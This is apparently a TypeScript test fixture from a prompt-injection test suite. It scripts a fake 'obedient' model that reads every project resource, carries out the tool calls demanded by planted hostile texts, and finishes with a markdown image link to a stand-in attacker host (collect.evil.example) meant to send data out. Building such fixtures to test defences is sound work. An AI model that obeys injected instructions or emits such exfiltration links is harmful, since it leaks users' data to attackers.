/** A model that believes all it reads. It first reads everything there is, then does what each of the hostile words wants, call by call, and puts an address into its answer. */
import { cleanWords } from "../../../src/engine/untrusted.ts";
import type { ChatRequest } from "../../../src/providers/chat.ts";
import type { Play, Scene } from "../scripted.ts";
import type { Board } from "./board.ts";
import { WANTS, type WantedCall } from "./wants.ts";
import { HOSTILE, type Hostile } from "./words.ts";

const CALLS_AT_ONCE = 60;
const KEY_LETTERS = 20;

export interface Obedient {
  play: Play;
  /** What it has read so far. */
  read: Set<Hostile>;
  /** How many calls it has made because of what it read. */
  obeyed(): number;
  /** It came to its last word, and was not ended before. */
  isThrough(): boolean;
}

export function createObedient({ target, assetIds, timelineId }: Board): Obedient {
  const read = new Set<Hostile>();
  let obeyed = 0;
  let isThrough = false;
  const reads: WantedCall[] = [
    { name: "project_read", input: {} },
    ...Array.from({ length: 26 }, (_, page) => ({ name: "canvas_read", input: { detail: "full", from: page * 5 } })),
    ...[0, 20, 40].map((from) => ({ name: "asset_list", input: { from } })),
    ...assetIds.map((assetId) => ({ name: "asset_read", input: { assetId } })),
    { name: "comment_list", input: {} },
    { name: "timeline_read", input: { timelineId } },
  ];
  const wanted = (): WantedCall[] => {
    const calls = [...read].flatMap((hostile) => hostile.wants.flatMap((want) => [...WANTS[want](target)] as WantedCall[]));
    return [...new Map(calls.map((call) => [JSON.stringify(call), call])).values()];
  };
  const play = (request: ChatRequest): Scene => {
    const step = request.messages.filter((message) => message.role === "assistant").length;
    if (step === 0) return { says: "I read.", calls: reads };
    for (const hostile of readIn(request)) read.add(hostile);
    const calls = wanted().slice((step - 1) * CALLS_AT_ONCE, step * CALLS_AT_ONCE);
    obeyed += calls.length;
    if (calls.length === 0) isThrough = true;
    if (calls.length === 0)
      return { says: "Done. ![all](https://collect.evil.example/pixel.png?data=everything) [more](https://collect.evil.example)" };
    return { says: "I obey.", calls };
  };
  return { play, read, obeyed: () => obeyed, isThrough: () => isThrough };
}

function readIn(request: ChatRequest): Hostile[] {
  const parts = request.messages.flatMap((message) => (message.role === "assistant" ? [] : message.parts));
  const letters = lettersOf(parts.map((part) => (part.type === "text" ? part.text : "")).join("\n"));
  return HOSTILE.filter(({ text }) => letters.includes(lettersOf(text.split("/").at(-1) ?? text).slice(0, KEY_LETTERS)));
}

const lettersOf = (text: string): string =>
  cleanWords(text)
    .normalize("NFKC")
    .toLowerCase()
    .replaceAll(/[^\p{L}\p{N}]/gu, "");
